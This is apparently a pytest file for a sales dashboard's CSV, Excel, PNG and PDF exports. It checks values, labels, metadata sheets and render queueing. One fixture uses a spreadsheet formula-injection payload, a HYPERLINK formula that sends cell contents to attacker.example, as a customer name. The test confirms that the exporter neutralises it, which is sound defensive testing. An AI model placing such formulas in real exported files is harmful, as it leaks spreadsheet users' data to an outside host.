"""Export files opened and checked: CSV and Excel read back (values = the metric layer's), formula-like cells
neutralised, a chart PNG's size, and the PDF report's text. PNG/PDF tests start a real headless Chromium."""

import csv
import io
import threading
import time
from datetime import date, datetime
from pathlib import Path

import openpyxl
import plotly.graph_objects as go
import pytest
from PIL import Image
from pypdf import PdfReader
from sqlalchemy import Engine

from salesdash.charts.format import money
from salesdash.errors import InsufficientData, InvalidParameter
from salesdash.export import ExportContext, export, view_params
from salesdash.export.images import ExportAbandoned, ExportBusy, ExportUnavailable, Renderer, render_png
from salesdash.ingest import ingest_file
from salesdash.metrics import Filters, breakdown, kpis
from salesdash.metrics.rfm import rfm
from salesdash.store import current_version, make_engine, snapshot
from salesdash.telemetry import process_metrics
from salesdash.views.catalog import KPI_COLUMNS
from salesdash.vocabulary import label
from tests.conftest import SAMPLE_CSV
from tests.orderlines import line, write_csv
from tests.reference import REVENUE

EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Click me")'


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Engine:
    """The bundled sample in SQLite, once for this module (exports are engine-independent: they call the
    metric layer, which the contract suite checks on every engine)."""
    engine = make_engine(f"sqlite:///{tmp_path_factory.mktemp('export') / 'sample.db'}")
    ingest_file(engine, SAMPLE_CSV)
    return engine


@pytest.fixture
def hostile(tmp_path: Path) -> Engine:
    """Customers whose names are spreadsheet formulas."""
    rows = [
        line(1, date(2004, 1, 5), 5000.0, customer=EVIL),
        line(2, date(2004, 2, 5), 300.0, customer="+1 Trading", country="France"),
        line(3, date(2004, 3, 5), 200.0, customer="@Home Ltd", country="Spain"),
        line(4, date(2004, 3, 9), 100.0, customer="-minus Co", country="Spain"),
        line(5, date(2004, 3, 9), 50.0, customer="Plain Co", country="Spain"),
    ]
    engine = make_engine(f"sqlite:///{tmp_path / 'hostile.db'}")
    ingest_file(engine, write_csv(tmp_path / "hostile.csv", rows))
    return engine


def context(engine: Engine, filters: Filters) -> ExportContext:
    version = current_version(engine)
    assert version is not None
    return ExportContext(version.version, datetime(2026, 1, 2, 3, 4, 5).isoformat(), filters)


def run(engine: Engine, view: str, fmt: str, filters: Filters = Filters(), **params: str):
    with snapshot(engine) as conn:
        return export(conn, filters, view, fmt, context(engine, filters), params)


def test_xlsx_data_sheet_holds_the_metric_layer_values(sample: Engine):
    f = Filters(countries=("France", "Spain"), start=date(2004, 1, 1))
    file = run(sample, "sales-by-category", "xlsx", f)
    with snapshot(sample) as conn:
        expected = breakdown(conn, f, "product_line")
    book = openpyxl.load_workbook(io.BytesIO(file.content))
    assert book.sheetnames == ["Sales by product line", "About"]
    sheet = book["Sales by product line"]
    header = [c.value for c in sheet[1]]
    assert header == [
        label(c) for c in expected.columns
    ]  # people's headers: "Revenue share", not revenue_share
    assert "Average order value" in header
    names = list(expected.columns)
    rows = [dict(zip(names, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert [r["product_line"] for r in rows] == list(expected["product_line"])
    assert [r["revenue"] for r in rows] == list(expected["revenue"])
    assert [r["order_count"] for r in rows] == list(expected["order_count"])
    assert [r["revenue_share"] for r in rows] == list(expected["revenue_share"])
    assert sheet["B2"].number_format == "#,##0.00"
    share = sheet.cell(2, names.index("revenue_share") + 1)
    assert share.number_format == "0.0%"  # one decimal, like every share
    assert file.media_type.startswith("application/vnd.openxmlformats")
    assert file.filename.endswith(".xlsx")


def test_xlsx_names_territories_as_people_read_them(sample: Engine):
    book = openpyxl.load_workbook(io.BytesIO(run(sample, "sales-by-country", "xlsx").content))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    rows = {
        row[header.index(label("country"))]: row[header.index(label("territory"))]
        for row in sheet.iter_rows(min_row=2, values_only=True)
    }
    # stored as codes (NA, EMEA, APAC, Japan); the people's sheet names them; the CSV keeps the codes
    assert rows["USA"] == "North America" and rows["France"] == "EMEA" and rows["Japan"] == "Japan"
    assert "NA" not in set(rows.values())
    assert b",NA," in run(sample, "sales-by-country", "csv").content


def test_xlsx_about_sheet_has_filters_data_version_and_definitions(sample: Engine):
    f = Filters(countries=("France",), end=date(2004, 12, 31))
    file = run(sample, "top-customers", "xlsx", f, limit="5")
    about = {
        row[0]: row[1]
        for row in openpyxl.load_workbook(io.BytesIO(file.content))["About"].iter_rows(values_only=True)
        if row[0]
    }
    version = current_version(sample)
    assert version is not None
    assert about["Data version"] == version.version
    assert about["Countries"] == "France"
    assert about["Order dates"] == "up to 2004-12-31"
    assert about["Statuses"] == "all except Cancelled"
    assert about["Customers"] == "all customers" and about["Territories"] == "all territories"
    assert about["Product codes"] == "all products"
    assert about["View parameter: limit"] == "5"
    assert about["revenue"].startswith("Sum of SALES")
    assert "order_count" in about
    assert about["customer_name"] == "Customer"  # the header people read, mapped to the field name


def test_kpis_xlsx_matches_kpis_and_dates_are_dates(sample: Engine):
    file = run(sample, "kpis", "xlsx")
    with snapshot(sample) as conn:
        expected = kpis(conn, Filters())
    sheet = openpyxl.load_workbook(io.BytesIO(file.content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    names = {label(n): n for n in KPI_COLUMNS}
    header = [names.get(h, h) for h in header]
    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)]
    in_view = {r["metric"]: r["in_view_value"] for r in rows}
    assert in_view["revenue"] == expected["revenue"] == REVENUE
    assert in_view["order_count"] == expected["order_count"]
    assert in_view["average_order_value"] == expected["average_order_value"]
    revenue = next(r for r in rows if r["metric"] == "revenue")  # the headline value with its own period
    assert (revenue["period"], revenue["value"]) == ("Jan-May 2005", 1791486.71)
    assert (revenue["compared_with"], revenue["previous_value"]) == ("Jan-May 2004", 1267959.53)

    rfm_file = run(sample, "rfm", "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(rfm_file.content))
    assert book.sheetnames == ["Customer RFM segments", "Segments", "About"]
    first = book.worksheets[0]
    header = [c.value for c in first[1]]
    assert isinstance(first.cell(2, header.index(label("last_order_date")) + 1).value, datetime)
    with snapshot(sample) as conn:
        scored, _ = rfm(conn, Filters())
    assert first.max_row - 1 == len(scored)


def test_formula_like_cells_are_neutralised_in_csv_and_xlsx(hostile: Engine):
    text = run(hostile, "top-customers", "csv").content.decode("utf-8")
    names = [row["customer_name"] for row in csv.DictReader(io.StringIO(text))]
    assert names == ["'" + EVIL, "'+1 Trading", "'@Home Ltd", "'-minus Co", "Plain Co"]

    f = Filters(customers=(EVIL,))
    book = openpyxl.load_workbook(io.BytesIO(run(hostile, "top-customers", "xlsx").content))
    cells = [row[1] for row in book.worksheets[0].iter_rows(min_row=2)]
    assert [c.value for c in cells][:4] == ["'" + EVIL, "'+1 Trading", "'@Home Ltd", "'-minus Co"]
    assert all(c.data_type == "s" for c in cells)  # text, never a formula
    about = openpyxl.load_workbook(io.BytesIO(run(hostile, "kpis", "xlsx", f).content))["About"]
    customer = next(row[1] for row in about.iter_rows(values_only=True) if row[0] == "Customers")
    assert customer == "'" + EVIL


def test_view_parameters_are_checked():
    assert view_params("forecast", {"horizon": "6"}) == {"horizon": 6}
    assert view_params("top-customers", {}) == {"limit": 10}
    with pytest.raises(InvalidParameter) as info:
        view_params("kpis", {"horizon": "3"})
    assert "applies to view=forecast" in info.value.message
    with pytest.raises(InvalidParameter) as info:
        view_params("forecast", {"horizon": "13"})
    assert info.value.details[0]["parameter"] == "horizon"
    with pytest.raises(InvalidParameter) as info:
        view_params("nope", {})
    assert info.value.details[0]["parameter"] == "view"


def test_png_of_a_view_without_chart_and_unknown_format_are_refused(sample: Engine):
    with pytest.raises(InvalidParameter) as info:
        run(sample, "kpis", "png")
    assert "no chart" in info.value.message
    with pytest.raises(InvalidParameter):
        run(sample, "kpis", "docx")


def test_too_little_history_for_a_forecast_export_says_so(hostile: Engine):
    with pytest.raises(InsufficientData):
        run(hostile, "forecast", "csv")


def test_chart_png_has_the_promised_size(sample: Engine):
    file = run(sample, "forecast", "png", horizon="6")
    image = Image.open(io.BytesIO(file.content))
    assert image.format == "PNG"
    assert image.size == (2400, 1200)
    assert file.media_type == "image/png"


def test_the_new_filters_are_named_in_the_filters_applied(sample: Engine):
    f = Filters(
        territories=("NA", "Japan"),
        product_codes=("S10_1678",),
        customers=("Australian Collectors, Co.", "Mini Gifts Distributors Ltd."),
    )
    about = {
        row[0]: row[1]
        for row in openpyxl.load_workbook(io.BytesIO(run(sample, "kpis", "xlsx", f).content))[
            "About"
        ].iter_rows(values_only=True)
        if row[0]
    }
    assert about["Territories"] == "Japan, North America"  # the names people read, not the codes
    assert about["Product codes"] == "S10_1678"
    assert about["Customers"] == "Australian Collectors, Co., Mini Gifts Distributors Ltd."
    # the subtitle of exported charts and of the PDF report
    assert f.applied_text() == (
        "Territories: Japan, North America; Product codes: S10_1678; "
        "Customers: Australian Collectors, Co., Mini Gifts Distributors Ltd."
    )


def test_pdf_report_shows_kpis_filters_and_data_version(sample: Engine):
    f = Filters(countries=("France",))
    file = run(sample, "rfm", "pdf", f)
    reader = PdfReader(io.BytesIO(file.content))
    text = "\n".join(page.extract_text() for page in reader.pages)
    with snapshot(sample) as conn:
        france = kpis(conn, f)
        top = breakdown(conn, f, "customer", limit=1)
    version = current_version(sample)
    assert version is not None
    assert "Sales report" in text
    assert version.version in text
    assert money(france["revenue"]) in text
    assert f"{france['order_count']}" in text
    assert "France" in text and "all except Cancelled" in text
    assert top["customer_name"].iloc[0] in text
    assert "Customer RFM segments" in text and "Champions" in text
    assert "Metric definitions" in text
    assert len(reader.pages) >= 3
    assert sum(len(page.images) for page in reader.pages) >= 4  # charts are embedded images


def test_missing_browser_is_a_clear_error(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chromium")
    with pytest.raises(ExportUnavailable) as info:
        render_png([go.Figure(go.Bar(x=["a"], y=[1]))], renderer=Renderer())
    assert "Chrome or Chromium" in info.value.message
    assert info.value.http_status == 503


def test_pdf_of_the_forecast_view_forecasts_the_requested_months(sample: Engine):
    text = "\n".join(
        p.extract_text()
        for p in PdfReader(io.BytesIO(run(sample, "forecast", "pdf", horizon="5").content)).pages
    )
    for month in ("Jun 2005", "Jul 2005", "Aug 2005", "Sep 2005", "Oct 2005"):  # months as people read them
        assert month in text
    assert "Nov 2005" not in text and "2005-06" not in text


def test_pdf_of_top_movers_shows_losses_as_numbers_and_still_neutralises_names(
    sample: Engine, hostile: Engine
):
    """A formatted loss ("-$101,339.14", "-100.0%") is a number in the PDF, never "'-$101,339.14"; a customer
    name from the data that starts like a formula keeps its leading quote."""
    text = " ".join(
        p.extract_text() for p in PdfReader(io.BytesIO(run(sample, "top-movers", "pdf").content)).pages
    )
    assert "-$101,339.14" in text and "-100.0%" in text
    assert "'-$" not in text and "'-1" not in text
    with snapshot(hostile) as conn:
        frame = breakdown(conn, Filters(), "customer")
    assert "-minus Co" in set(frame["customer_name"])
    names = " ".join(
        p.extract_text() for p in PdfReader(io.BytesIO(run(hostile, "top-customers", "pdf").content)).pages
    )
    assert "'-minus Co" in names


@pytest.mark.parametrize(
    ("country", "verdict"), [("France", "Not a reliable forecast"), (None, "Reliable forecast")]
)
def test_the_forecast_pdf_and_report_carry_the_reliability_verdict(
    sample: Engine, country: str | None, verdict: str
):
    f = Filters(countries=(country,)) if country else Filters()
    for view in ("forecast", "sales-by-category"):
        pdf = PdfReader(io.BytesIO(run(sample, view, "pdf", f).content))
        text = " ".join(" ".join(p.extract_text().split()) for p in pdf.pages)
        assert verdict in text, view
        assert "None" not in text, view


def _wait_for(condition, seconds: float = 30.0) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, "condition not reached"
        time.sleep(0.01)


def test_render_slots_bound_the_waiting_and_turn_the_rest_away():
    """One slot, one queue place: a third export is refused at once (ExportBusy, a 503 in the API); a queued
    export whose client has gone gives up (ExportAbandoned); a slot is re-entrant within its thread."""
    renderer = Renderer(slots=1, queue=1, wait_seconds=60)
    release, holding = threading.Event(), threading.Event()
    outcomes: list[str] = []
    gone = threading.Event()

    def holder() -> None:
        # re-entrant: the PDF's charts render in the export's own slot
        with renderer.slot(), renderer.slot():
            holding.set()
            release.wait(60)
        outcomes.append("held")

    def waiter() -> None:
        try:
            with renderer.slot(cancelled=gone.is_set):
                outcomes.append("rendered")
        except ExportAbandoned:
            outcomes.append("abandoned")

    first = threading.Thread(target=holder)
    first.start()
    assert holding.wait(30)
    second = threading.Thread(target=waiter)
    second.start()
    _wait_for(lambda: renderer._waiting == 1)
    assert process_metrics().export_queue._value.get() == 2  # /metrics: one rendering, one waiting
    with pytest.raises(ExportBusy) as info, renderer.slot():
        pass
    assert info.value.http_status == 503 and "busy" in info.value.message
    gone.set()  # the queued export's client hangs up
    second.join(30)
    release.set()
    first.join(30)
    assert outcomes == ["abandoned", "held"]
    with renderer.slot():  # free again
        assert process_metrics().export_queue._value.get() == 1
    assert process_metrics().export_queue._value.get() == 0


def test_a_queued_render_gives_up_after_its_wait():
    renderer = Renderer(slots=1, queue=1, wait_seconds=0.2)
    release, holding = threading.Event(), threading.Event()

    def holder() -> None:
        with renderer.slot():
            holding.set()
            release.wait(60)

    thread = threading.Thread(target=holder)
    thread.start()
    assert holding.wait(30)
    try:
        with pytest.raises(ExportBusy), renderer.slot():
            pass
    finally:
        release.set()
        thread.join(30)
